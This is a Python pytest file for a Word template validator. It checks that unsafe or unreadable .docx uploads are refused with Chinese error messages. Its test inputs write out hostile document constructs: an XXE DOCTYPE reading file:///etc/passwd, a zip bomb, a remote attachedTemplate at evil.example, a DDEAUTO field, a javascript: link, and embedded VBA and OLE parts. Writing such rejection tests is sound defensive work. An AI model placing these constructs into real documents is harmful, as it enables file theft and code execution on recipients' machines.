"""Files that are no sound Word templates, each told for what it is; and what a template may not hold."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from word_files import PIXEL, check, part_of, small_kind, with_part, word, xml

from docgen.errors import TemplateFileUnreadable, TemplateRefused
from docgen.kinds.definition import Kind
from docgen.render.wordpackage import MOST_BYTES

RELATIONS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture(scope="module")
def kind(tmp_path_factory: pytest.TempPathFactory) -> Kind:
    return small_kind(tmp_path_factory.mktemp("kinds"))


def zipped(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def replaced(name: str, old: str, new: str) -> bytes:
    content = word()
    part = part_of(content, name)
    assert old in part
    return with_part(content, name, part.replace(old, new).encode())


def encrypted() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")


MAIN = "wordprocessingml.document.main+xml"
DOCUMENT = "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: b"", "文件是空的"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "是旧版 .doc 文件"),
        (encrypted, "设有打开密码"),
        (lambda: b"{\\rtf1}", "RTF 或网页"),
        (lambda: b"<html></html>", "RTF 或网页"),
        (lambda: b"%PDF-1.7", "不是 Word 文件"),
        (lambda: b"PK\x03\x04 not a zip", "已损坏"),
        (lambda: word()[:-200], "已损坏"),
        (lambda: zipped(a=b"1"), "没有 Word 文档"),
        (lambda: zipped(**{"xl/workbook.xml": b"<a/>", "[Content_Types].xml": b"<a/>"}), "没有 Word 文档"),
        (lambda: with_part(word(), "word/document.xml", b"<w:document"), "不是完整的 XML"),
        (lambda: with_part(word(), "a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "外部声明"),
        (lambda: with_part(word(), "a.xml", b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'), "外部声明"),
        (lambda: with_part(word(), "word/bomb.bin", b"\0" * (60 << 20)), "异常庞大"),
        (lambda: b"PK" + b"\0" * MOST_BYTES, "大于 20 MB"),
        (lambda: replaced("[Content_Types].xml", MAIN, "wordprocessingml.template.main+xml"), "Word 模板（.dotx）"),
        (
            lambda: replaced(
                "[Content_Types].xml",
                "application/vnd.openxmlformats-officedocument." + MAIN,
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
            "带宏的文件",
        ),
    ],
)
def test_what_is_no_word_template_is_told_for_what_it_is(kind: Kind, make: Callable[[], bytes], said: str) -> None:
    with pytest.raises(TemplateFileUnreadable) as caught:
        check(kind, make())
    assert said in caught.value.message
    assert "模板.docx" in caught.value.message


def related(kind: str, target: str, mode: str = "") -> bytes:
    new = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return replaced(RELATIONS, "</Relationships>", new)


def holding(element: str) -> bytes:
    return word(change=lambda made: made.element.body.insert(1, xml(element)))


OUTSIDE = ' TargetMode="External"'


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: related("attachedTemplate", "https://evil.example/a.dotm", OUTSIDE), "附加的模板"),
        (lambda: related("image", "https://evil.example/a.png", OUTSIDE), "链接的图片"),
        (lambda: related("image", "file:///etc/passwd", OUTSIDE), "链接的图片"),
        (lambda: related("oleObject", "file:///c:/a.xlsx", OUTSIDE), "链接的对象"),
        (lambda: related("hyperlink", "file:///c:/a.exe", OUTSIDE), "指向文件的链接"),
        (lambda: related("hyperlink", "javascript:alert(1)", OUTSIDE), "指向文件的链接"),
        (lambda: related("mystery", "https://evil.example", OUTSIDE), "外部内容"),
        (lambda: with_part(related("oleObject", "a.bin"), "word/a.bin", b"x"), "嵌入的对象（OLE）"),
        (lambda: with_part(related("package", "a.xlsx"), "word/a.xlsx", b"x"), "嵌入的文件"),
        (lambda: with_part(related("aFChunk", "a.html"), "word/a.html", b"x"), "altChunk"),
        (lambda: with_part(related("vbaProject", "vbaProject.bin"), "word/vbaProject.bin", b"x"), "宏（VBA）"),
        (lambda: with_part(related("comments", "comments.xml"), "word/comments.xml", b"<a><b/></a>"), "批注"),
        (lambda: holding('<w:p><w:fldSimple w:instr=" INCLUDETEXT c:/a.docx "/></w:p>'), "域 INCLUDETEXT"),
        (lambda: holding("<w:p><w:r><w:instrText>INCLUDE</w:instrText><w:instrText>PICTURE</w:instrText></w:r></w:p>"),
         "域 INCLUDEPICTURE"),
        (lambda: holding("<w:p><w:r><w:instrText>DDEAUTO excel a b</w:instrText></w:r></w:p>"), "域 DDEAUTO"),
        (lambda: holding("<w:p><w:r><w:instrText> MERGEFIELD 姓名 </w:instrText></w:r></w:p>"), "域 MERGEFIELD"),
        (lambda: holding('<w:p><w:ins w:id="1"><w:r><w:t>a</w:t></w:r></w:ins></w:p>'), "修订标记（插入）"),
        (lambda: holding('<w:p><w:del w:id="1"><w:r><w:delText>a</w:delText></w:r></w:del></w:p>'), "修订标记（删除）"),
        (lambda: holding('<w:altChunk r:id="rId1"/>'), "altChunk"),
        (lambda: holding("<w:p><w:r><w:object/></w:r></w:p>"), "OLE"),
        (lambda: with_part(word(), "word/endnotes.xml", b"<a>{{ creditor.name }}</a>"), "不能填写的地方"),
    ],
)  # fmt: skip
def test_what_a_template_may_not_hold(kind: Kind, make: Callable[[], bytes], said: str) -> None:
    with pytest.raises(TemplateRefused) as caught:
        check(kind, make())
    assert any(said in problem.expected for problem in caught.value.problems)


def test_pictures_links_to_pages_and_page_numbers_are_let_through(kind: Kind) -> None:
    def more(made: object) -> None:
        made.add_picture(io.BytesIO(PIXEL))  # type: ignore[attr-defined]
        field = '<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> HYPERLINK "x" </w:instrText></w:r></w:p>'
        made.element.body.insert(1, xml(field))  # type: ignore[attr-defined]

    new = f'<Relationship Id="rId99" Type="{OFFICE}/hyperlink" Target="https://bank.example"{OUTSIDE}/></Relationships>'
    content = word(change=more)
    part = part_of(content, RELATIONS).replace("</Relationships>", new)
    assert check(kind, with_part(content, RELATIONS, part.encode())) == ()


def test_the_place_of_a_file_does_not_matter(kind: Kind, tmp_path: Path) -> None:
    path = tmp_path / "模 板.docx"
    path.write_bytes(word("{{ case.case_no }}"))
    assert check(kind, path.read_bytes()) == ()
